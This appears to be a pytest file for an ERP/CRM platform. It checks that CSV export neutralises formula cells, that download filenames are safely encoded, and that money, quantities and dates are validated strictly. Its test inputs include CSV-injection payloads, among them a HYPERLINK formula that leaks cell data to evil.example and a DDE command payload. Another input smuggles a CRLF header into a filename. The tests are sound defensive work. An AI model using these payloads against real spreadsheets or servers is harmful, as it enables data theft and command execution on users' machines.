"""Trust at the edges, the pure parts: CSV cells that cannot run as formulas, download names in any script, strict
request money, quantities and dates, bounded JSON cells, per-currency approval limits."""

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from pydantic import BaseModel, ValidationError

from crm.csvio.service import json_depth
from erp.settings import ErpSettings, parse_limits
from throughline_events.types import (
    FIRST_BUSINESS_DATE,
    LAST_BUSINESS_DATE,
    BusinessDate,
    BusinessDateTime,
    DecimalInput,
    MoneyInput,
)
from throughline_platform.csv_safety import csv_writer, neutralise, restore
from throughline_platform.downloads import content_disposition

FORMULAS = ['=HYPERLINK("https://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_written_as_text_and_read_back_as_they_were(cell: str) -> None:
    out = io.StringIO()
    csv_writer(out).writerow(["ok", cell, None, 42])
    [row] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row[0] == "ok" and row[2] == "" and row[3] == "42"
    assert row[1] == "'" + cell  # a spreadsheet shows the text and runs nothing
    assert restore(row[1]) == cell


@pytest.mark.parametrize("cell", ["Acme", "", "'quoted", "''", "'=already", "''+twice", "a=b", "50%", "O'Neil"])
def test_neutralise_and_restore_are_exact_inverses(cell: str) -> None:
    assert restore(neutralise(cell)) == cell
    safe = neutralise(cell)
    assert not safe[:1] or safe[0] not in "=+-@\t\r"


def test_plain_cells_are_left_alone() -> None:
    assert [neutralise(c) for c in ("Acme", "'quoted", "a=b", "12.50")] == ["Acme", "'quoted", "a=b", "12.50"]


@pytest.mark.parametrize(("name", "expected"), [
    ("receipt.pdf", 'inline; filename="receipt.pdf"'),
    ("Quittung Müller März.pdf",
     "inline; filename=\"Quittung Muller Marz.pdf\"; filename*=UTF-8''Quittung%20M%C3%BCller%20M%C3%A4rz.pdf"),
    ("領収書.png", "inline; filename=\"___.png\"; filename*=UTF-8''%E9%A0%98%E5%8F%8E%E6%9B%B8.png"),
    ('a"b\r\nSet-Cookie: x=1.pdf', "inline; filename=\"a_bSet-Cookie: x=1.pdf\"; "
                                   "filename*=UTF-8''a%22bSet-Cookie%3A%20x%3D1.pdf"),
])
def test_content_disposition_carries_any_name_in_ascii(name: str, expected: str) -> None:
    header = content_disposition(name, "inline")
    assert header == expected
    header.encode("ascii")  # what the server writes: never a 500 for the name
    assert "\r" not in header and "\n" not in header


class _Money(BaseModel):
    amount: MoneyInput


class _Quantity(BaseModel):
    quantity: DecimalInput


class _Dates(BaseModel):
    day: BusinessDate | None = None
    moment: BusinessDateTime | None = None


@pytest.mark.parametrize("value", ["1_000", " 5 ", "5 ", "1e3", "NaN", "Infinity", "", "1,000.00", 5, 5.5, True])
def test_request_money_is_a_plain_decimal_string(value: Any) -> None:
    with pytest.raises(ValidationError):
        _Money.model_validate({"amount": value})


def test_request_money_accepts_plain_decimals() -> None:
    assert _Money.model_validate_json('{"amount": "1250.50"}').amount == Decimal("1250.50")
    assert _Money.model_validate({"amount": "-3"}).amount == Decimal(-3)


def test_quantities_are_decimal_strings_or_whole_numbers_never_json_fractions() -> None:
    assert _Quantity.model_validate_json('{"quantity": 3}').quantity == 3
    assert _Quantity.model_validate_json('{"quantity": "2.5"}').quantity == Decimal("2.5")
    for bad in ('{"quantity": 2.5}', '{"quantity": "2_5"}', '{"quantity": " 2"}', '{"quantity": true}'):
        with pytest.raises(ValidationError):
            _Quantity.model_validate_json(bad)


def test_business_dates_are_iso_and_bounded() -> None:
    assert _Dates.model_validate({"day": "2026-05-31"}).day == date(2026, 5, 31)
    assert _Dates.model_validate({"day": FIRST_BUSINESS_DATE.isoformat()}).day == FIRST_BUSINESS_DATE
    assert _Dates.model_validate({"day": LAST_BUSINESS_DATE.isoformat()}).day == LAST_BUSINESS_DATE
    for bad in ("0001-01-01", "9999-12-31", "1999-12-31", "2101-01-01", "0", 0, "1000000000", "2026-5-31"):
        with pytest.raises(ValidationError):
            _Dates.model_validate({"day": bad})
    assert _Dates.model_validate({"moment": "2026-05-31T10:00:00+02:00"}).moment is not None
    for bad_moment in ("0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "0", "2026-05-31T10:00:00"):
        with pytest.raises(ValidationError):
            _Dates.model_validate({"moment": bad_moment})


def test_json_depth_counts_brackets_outside_strings() -> None:
    assert json_depth('{"type": "fixed"}') == 1
    assert json_depth('{"milestones": [{"name": "a"}]}') == 3
    assert json_depth('{"name": "[[[[[[[[[[\\"]]]]"}') == 1
    assert json_depth("[" * 1100 + "]" * 1100) == 1100


def test_expense_manager_limits_are_per_currency() -> None:
    settings = ErpSettings(expense_manager_limits="EUR:1000, USD:1100,GBP:900")
    assert settings.expense_manager_limit("EUR") == Decimal("1000.00")
    assert settings.expense_manager_limit("USD") == Decimal("1100.00")
    assert settings.expense_manager_limit("CLF") is None  # no limit: finance decides
    assert parse_limits("JPY:150000") == {"JPY": Decimal(150000)}
    for bad in ("EUR", "EUR:1_000", "XXX:5", "JPY:100.5", "EUR:-1"):
        with pytest.raises(ValueError, match="expense manager limit"):
            parse_limits(bad)
